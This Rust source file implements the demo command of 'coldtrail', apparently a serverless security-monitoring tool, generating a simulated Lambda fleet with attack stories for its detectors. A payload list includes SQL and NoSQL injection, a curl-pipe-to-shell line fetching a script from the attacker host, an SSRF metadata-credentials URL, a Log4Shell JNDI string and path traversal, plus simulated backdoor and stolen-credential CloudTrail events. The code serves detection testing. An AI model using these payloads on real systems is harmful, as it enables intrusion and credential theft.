//! `coldtrail demo`: the whole pipeline on an embedded default. A generated fleet of functions (daily
//! cycle, cold starts, errors, API Gateway / SQS / S3 / EventBridge callers) and its team's routine
//! CloudTrail replace Kafka and CloudWatch; six hours of history (stored as invocation rows) give the
//! detectors their baselines, then time runs live at `--speed`, each minute delivered as AWS would deliver
//! it (Lambda log lines in CloudWatch Logs subscription payloads, X-Ray segments, CloudTrail files) through
//! ingest's parser, with attack stories inside it: an event-injection campaign against an API
//! function, a function backdoored through AddPermission and a code overwrite, crypto-mining in that
//! function, its neighbour's execution-role credentials used from outside, and a denial-of-wallet flood.
//! The servers of `coldtrail serve` run meanwhile; what is found is printed as it happens, and how to look
//! is printed at the start and at the end.

use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use clap::Args;
use ingest::{Format, Pipeline, PipelineConfig, Unit};
use serde_json::{json, Value};
use store::{Store, Table};
use workload::cloudtrail::{record, role_session, routine, Team};
use workload::{fleet, invocations_batch, Anomaly, Generator, Injection, Invocation, Rng};

use crate::commands::Paths;
use crate::config::Config;

const MINUTE_US: i64 = 60_000_000;
const HISTORY_MINUTES: i64 = 6 * 60;
/// The attacker's address in every story.
pub const ATTACKER_IP: &str = "185.220.101.34";
const ATTACKER_AGENT: &str = "aws-cli/2.13.0 Python/3.11.4 Darwin/23.0.0 source/x86_64";
const CONTRACTOR: &str = "arn:aws:iam::123456789012:user/dev-contractor";

#[derive(Args, Debug)]
pub struct DemoArgs {
    /// Seed of the workload and the stories: the same seed gives the same rows.
    #[arg(long, default_value_t = 7)]
    seed: u64,
    /// Simulated seconds per wall-clock second once the history is written.
    #[arg(long, default_value_t = 60.0)]
    speed: f64,
    /// Stop cleanly after this long (`90s`, `5m`, `1h`); otherwise run until Ctrl-C.
    #[arg(long)]
    duration: Option<String>,
    /// Functions in the fleet (at least 4: the stories need their victims).
    #[arg(long, default_value_t = 12)]
    functions: usize,
    /// PostgreSQL-protocol listen address.
    #[arg(long, default_value = "127.0.0.1:5433")]
    pg_listen: std::net::SocketAddr,
    /// HTTP API listen address.
    #[arg(long, default_value = "127.0.0.1:8080")]
    http_listen: std::net::SocketAddr,
    /// Send alerts to this URL as signed JSON (repeatable; secret in COLDTRAIL_WEBHOOK_SECRET).
    #[arg(long = "webhook", value_name = "URL")]
    webhooks: Vec<String>,
}

fn parse_duration(text: &str) -> anyhow::Result<Duration> {
    let (number, unit) = text.split_at(text.len().saturating_sub(1));
    let seconds: f64 = number.parse().with_context(|| format!("--duration {text:?}: expected e.g. 90s, 5m or 1h"))?;
    let factor = match unit {
        "s" => 1.0,
        "m" => 60.0,
        "h" => 3_600.0,
        _ => bail!("--duration {text:?}: expected e.g. 90s, 5m or 1h"),
    };
    Ok(Duration::from_secs_f64(seconds * factor))
}

/// The functions each story happens to.
struct Cast {
    api: usize,
    backdoored: usize,
    stolen: usize,
    flooded: usize,
}

fn cast(functions: &mut [workload::FunctionProfile], seed: u64) -> anyhow::Result<Cast> {
    if functions.len() < 4 {
        bail!("the stories need at least 4 functions: use more --functions");
    }
    let mut http: Vec<usize> = (0..functions.len()).filter(|i| functions[*i].trigger.is_http()).collect();
    // The campaign and the flood come through HTTP: make sure two functions have an API in front.
    let mut rng = Rng::new(seed ^ 0xa91);
    for (i, function) in functions.iter_mut().enumerate() {
        if http.len() >= 2 {
            break;
        }
        if !http.contains(&i) {
            function.trigger = workload::Trigger::ApiGateway;
            function.callers =
                (0..6).map(|c| workload::fleet::caller(workload::Trigger::ApiGateway, i, c, &mut rng)).collect();
            http.push(i);
        }
    }
    let others: Vec<usize> = (0..functions.len()).filter(|i| *i != http[0] && *i != http[1]).collect();
    Ok(Cast { api: http[0], flooded: http[1], backdoored: others[0], stolen: others[1] })
}

/// Attack payloads of the injection campaign, as a scanner sends them.
const CAMPAIGN: [&str; 8] = [
    "1' UNION SELECT username, password FROM users--",
    "1%27%20OR%201%3D1--",
    "; curl http://185.220.101.34/x.sh | sh",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "${jndi:ldap://185.220.101.34:1389/a}",
    "../../../../proc/self/environ",
    "{{7*7}}",
    "{\"username\":\"admin\",\"password\":{\"$ne\":null}}",
];

fn attack_payload(path: &str, attack: &str) -> String {
    json!({
        "resource": "/{proxy+}",
        "path": path,
        "httpMethod": "GET",
        "headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)", "Host": "api.example.com"},
        "queryStringParameters": {"q": attack},
        "requestContext": {"identity": {"sourceIp": ATTACKER_IP}, "stage": "prod"},
        "isBase64Encoded": false
    })
    .to_string()
}

/// CloudTrail records of the stories, at their times.
fn story_records(names: &[String], cast: &Cast, live_us: i64, seed: u64) -> Vec<(i64, Value)> {
    let mut rng = Rng::new(seed ^ 0x5707);
    let contractor = json!({"type": "IAMUser", "principalId": "AIDADEVCONTRACTOR", "arn": CONTRACTOR, "accountId": "123456789012", "accessKeyId": "AKIADEVCONTRACTOR01", "userName": "dev-contractor"});
    let victim = &names[cast.backdoored];
    let at = |minute: i64, second: i64| live_us + minute * MINUTE_US + second * 1_000_000;
    let mut out = vec![
        (
            at(4, 0),
            record(
                &mut rng,
                at(4, 0),
                "lambda.amazonaws.com",
                "AddPermission20150331v2",
                contractor.clone(),
                ATTACKER_IP,
                ATTACKER_AGENT,
                json!({"functionName": victim, "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"}),
                json!({"statement": "{\"Sid\":\"public-invoke\",\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"lambda:InvokeFunction\"}"}),
            ),
        ),
        (
            at(4, 40),
            record(
                &mut rng,
                at(4, 40),
                "lambda.amazonaws.com",
                "UpdateFunctionCode20150331v2",
                contractor.clone(),
                ATTACKER_IP,
                ATTACKER_AGENT,
                json!({"functionName": victim, "publish": true}),
                json!({"functionName": victim, "codeSha256": "bWluZXItcGF5bG9hZC0xMzM3", "version": "99"}),
            ),
        ),
    ];
    let stolen = &names[cast.stolen];
    let role = format!("arn:aws:iam::123456789012:role/{stolen}-exec");
    let identity = role_session(&role, stolen, "ASIASTOLENDEMO000001");
    for (second, (source, name, request)) in [
        ("sts.amazonaws.com", "GetCallerIdentity", json!({})),
        ("s3.amazonaws.com", "ListBuckets", json!({})),
        ("secretsmanager.amazonaws.com", "ListSecrets", json!({})),
        ("secretsmanager.amazonaws.com", "GetSecretValue", json!({"secretId": "prod/db/password"})),
    ]
    .into_iter()
    .enumerate()
    {
        let ts = at(6, second as i64 * 15);
        out.push((
            ts,
            record(&mut rng, ts, source, name, identity.clone(), ATTACKER_IP, ATTACKER_AGENT, request, Value::Null),
        ));
    }
    out
}

pub async fn demo(paths: &Paths, args: DemoArgs) -> anyhow::Result<ExitCode> {
    crate::drain_when_stdout_closes();
    if args.speed <= 0.0 {
        bail!("--speed must be positive");
    }
    let duration = args.duration.as_deref().map(parse_duration).transpose()?;
    let mut functions = fleet(args.functions.max(1), &mut Rng::new(args.seed));
    let cast = cast(&mut functions, args.seed)?;
    let names: Vec<String> = functions.iter().map(|f| f.name.clone()).collect();

    let mut config = Config::default();
    config.query.pg_listen = args.pg_listen;
    config.query.http_listen = args.http_listen;
    for url in &args.webhooks {
        config.alerting.destinations.push(alerting::DestinationConfig::webhook(url));
    }
    let store = Arc::new(Store::open(paths.store_config()).await.context("cannot open the store")?);
    let running = crate::serve::start(paths, &config, store.clone()).await?;
    let printer = print_alerts(&store);
    walkthrough(paths, &running, &names, &cast);

    // Six hours of history, then live time from `live_us` on.
    let now = store::time::now_micros();
    let live_us = now - now.rem_euclid(MINUTE_US);
    let start_us = live_us - HISTORY_MINUTES * MINUTE_US;
    let mut generator = Generator::new(functions.clone(), args.seed);
    let live = |minute: i64| live_us + minute * MINUTE_US;
    generator.inject(Injection {
        function_idx: cast.backdoored,
        anomaly: Anomaly::CryptoMining,
        start_us: live(5),
        end_us: live(40),
    });
    generator.inject(Injection {
        function_idx: cast.flooded,
        anomaly: Anomaly::Spike { factor: 25.0 },
        start_us: live(8),
        end_us: live(23),
    });
    let mut trail: Vec<(i64, Value)> = routine(&Team::new(&names), start_us, HISTORY_MINUTES / 60 + 48, args.seed)
        .into_iter()
        .map(|r| (event_time(&r), r))
        .collect();
    trail.extend(story_records(&names, &cast, live_us, args.seed));
    trail.sort_by_key(|(ts, _)| *ts);
    // A data directory holding an earlier demo's rows has its history, and the detectors their baselines:
    // this run goes live at once instead of writing six more hours.
    let has_history = store.stats().get(&Table::Invocations).is_some_and(|t| t.hot_rows + t.segment_rows > 0);
    if has_history {
        trail.retain(|(ts, _)| *ts >= live_us);
    }
    let mut trail = trail.into_iter().peekable();

    let stop = tokio::time::sleep(duration.unwrap_or(Duration::from_secs(u64::MAX / 4)));
    tokio::pin!(stop);
    let ctrl_c = crate::http_ingest::shutdown_signal();
    tokio::pin!(ctrl_c);
    if has_history {
        outln!("{} holds an earlier demo's history: going live at once", paths.data.display());
    } else {
        outln!("writing {} hours of history for {} functions ...", HISTORY_MINUTES / 60, names.len());
    }
    let started = Instant::now();
    let mut invocations: Vec<Invocation> = Vec::new();
    let mut n_invocations = 0u64;
    let mut minute = if has_history { 0 } else { -HISTORY_MINUTES };
    let mut live_started: Option<Instant> = None;
    let mut live_pipeline = Pipeline::new(PipelineConfig::default());
    let mut render_rng = Rng::new(args.seed ^ 0x11fe);
    loop {
        let minute_us = live(minute);
        generator.minute(minute_us, &mut invocations);
        if (2..12).contains(&minute) {
            // The injection campaign: a scanner's requests among the API function's traffic.
            let mut k = 0usize;
            for invocation in invocations.iter_mut().filter(|i| i.function_idx == cast.api) {
                k += 1;
                if k.is_multiple_of(3) {
                    let attack = CAMPAIGN[(k / 3 + minute as usize) % CAMPAIGN.len()];
                    invocation.event_payload = attack_payload(invocation.http_path.as_deref().unwrap_or("/"), attack);
                    invocation.caller.source_ip = Some(ATTACKER_IP.to_string());
                    invocation.caller.user_agent = Some("sqlmap/1.7.2#stable (https://sqlmap.org)".to_string());
                }
            }
        }
        let mut batches = Vec::new();
        if minute < 0 {
            // History as rows, quickly; live time as log lines and traces through the parser.
            if let Some(batch) = invocations_batch(&functions, &invocations) {
                batches.push((Table::Invocations, batch));
            }
        } else {
            batches.extend(render_live(&functions, &invocations, &mut live_pipeline, &mut render_rng, minute));
        }
        n_invocations += invocations.len() as u64;
        invocations.clear();
        let mut records = Vec::new();
        while let Some((_, record)) = trail.next_if(|(ts, _)| *ts < minute_us + MINUTE_US) {
            records.push(record);
        }
        if !records.is_empty() {
            let mut pipeline = Pipeline::new(PipelineConfig::default());
            let body = json!({ "Records": records }).to_string();
            pipeline.ingest(
                Format::Auto,
                body.as_bytes(),
                &Unit { source: "demo", position: &minute.to_string(), key: None, log_group: None },
            );
            batches.extend(pipeline.take_batches());
        }
        if !batches.is_empty() {
            let store = store.clone();
            tokio::task::spawn_blocking(move || store.append(&batches, &[])).await??;
        }
        if minute == 0 {
            if has_history {
                outln!(
                    "history written by an earlier run; live now at {}x, attack stories start in 2 simulated minutes",
                    args.speed
                );
            } else {
                outln!(
                    "history written: {n_invocations} invocations in {:.1} s; live now at {}x, attack stories start in 2 simulated minutes",
                    started.elapsed().as_secs_f64(),
                    args.speed
                );
            }
            live_started = Some(Instant::now());
        }
        minute += 1;
        if let Some(since) = live_started {
            if minute % 10 == 0 {
                outln!("simulated {} min live, {n_invocations} invocations stored", minute);
            }
            // Live: the next minute when its time comes.
            let due = since + Duration::from_secs_f64(minute as f64 * 60.0 / args.speed);
            tokio::select! {
                _ = tokio::time::sleep_until(due.into()) => {}
                _ = &mut stop => break,
                _ = &mut ctrl_c => break,
            }
        } else if duration.is_some_and(|d| started.elapsed() >= d) {
            break;
        }
    }
    running.stop().await?;
    drop(printer);
    outln!("demo stopped; the data stays in {} for `coldtrail sql` and `coldtrail verify`", paths.data.display());
    Ok(ExitCode::SUCCESS)
}

/// One live minute as AWS would deliver it, through ingest's parser: each function's log lines in
/// CloudWatch Logs subscription payloads (one per log stream), and X-Ray segments of 5% of the
/// invocations, every failed one and every request from the attacker.
fn render_live(
    functions: &[workload::FunctionProfile],
    invocations: &[Invocation],
    pipeline: &mut Pipeline,
    rng: &mut Rng,
    minute: i64,
) -> Vec<(Table, arrow::array::RecordBatch)> {
    use workload::render::{log_events, subscription_payload, xray_segments};
    let mut streams: std::collections::BTreeMap<(usize, &str), Vec<workload::render::LogEvent>> = Default::default();
    let mut traces = Vec::new();
    for invocation in invocations {
        let function = &functions[invocation.function_idx];
        streams
            .entry((invocation.function_idx, &invocation.log_stream))
            .or_default()
            .extend(log_events(function, invocation, rng));
        let attacker = invocation.caller.source_ip.as_deref() == Some(ATTACKER_IP);
        if attacker || invocation.status != "success" || rng.chance(0.05) {
            for segment in xray_segments(function, invocation, rng) {
                traces.extend_from_slice(segment.to_string().as_bytes());
                traces.push(b'\n');
            }
        }
    }
    let position = minute.to_string();
    for ((function_idx, log_stream), events) in &streams {
        let payload = subscription_payload(&functions[*function_idx], log_stream, events, 0).to_string();
        let unit = Unit { source: "demo-logs", position: &position, key: None, log_group: None };
        pipeline.ingest(Format::Subscription, payload.as_bytes(), &unit);
    }
    if !traces.is_empty() {
        let unit = Unit { source: "demo-xray", position: &position, key: None, log_group: None };
        pipeline.ingest(Format::XRay, &traces, &unit);
    }
    pipeline.take_batches()
}

/// A CloudTrail record's `eventTime` in microseconds (0 when it has none).
pub(crate) fn event_time(record: &Value) -> i64 {
    record["eventTime"]
        .as_str()
        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        .map_or(0, |t| t.timestamp_micros())
}

/// Prints alerts as they are stored (first rows only; a group's final count is not printed again).
fn print_alerts(store: &Store) -> std::thread::JoinHandle<()> {
    let receiver = store.subscribe(&[Table::Alerts], 1_024);
    std::thread::spawn(move || {
        let mut seen = std::collections::HashSet::new();
        while let Ok(appended) = receiver.recv() {
            for (_, batch) in &appended.batches {
                for alert in alerting::AlertDoc::rows(batch) {
                    if seen.insert(alert.id.clone()) {
                        let title: String = alert.title.chars().take(110).collect();
                        outln!("  alert [{}] {} {}", alert.severity, alert.detector, title);
                    }
                }
            }
        }
    })
}

fn walkthrough(paths: &Paths, running: &crate::serve::Running, names: &[String], cast: &Cast) {
    let credentials = paths.data.join("credentials.json");
    outln!("");
    outln!("coldtrail demo: a fleet of {} functions with attack stories inside its traffic", names.len());
    outln!("  injection campaign against {} from {ATTACKER_IP}", names[cast.api]);
    outln!("  {} backdoored (AddPermission to everyone, code overwritten) and then mining", names[cast.backdoored]);
    outln!("  {}'s execution-role credentials used from {ATTACKER_IP}", names[cast.stolen]);
    outln!("  a denial-of-wallet flood against {}", names[cast.flooded]);
    outln!("");
    outln!(
        "Look with psql (password: `python3 -c \"import json;print(json.load(open('{}'))['password'])\"`):",
        credentials.display()
    );
    outln!("  psql \"postgresql://{}@{}/coldtrail\"", running.first_user, running.pg_addr);
    outln!("  SELECT ts, severity, detector, function_name, title FROM alerts ORDER BY ts DESC LIMIT 20;");
    outln!("  SELECT * FROM timeline('{ATTACKER_IP}') LIMIT 50;");
    outln!("  SELECT event_time, event_name, principal_arn, user_agent FROM cloudtrail WHERE source_ip = '{ATTACKER_IP}' ORDER BY event_time;");
    outln!(
        "  SELECT minute, invocations, duration_p95_ms, memory_used_ratio_max, gb_seconds FROM function_minutes WHERE function_name = '{}' ORDER BY minute DESC LIMIT 15;",
        names[cast.backdoored]
    );
    outln!(
        "Metrics: {}://{}/metrics   Grafana dashboards and provisioning: dashboards/ (see its README)",
        running.scheme,
        running.http_addr
    );
    outln!("");
}
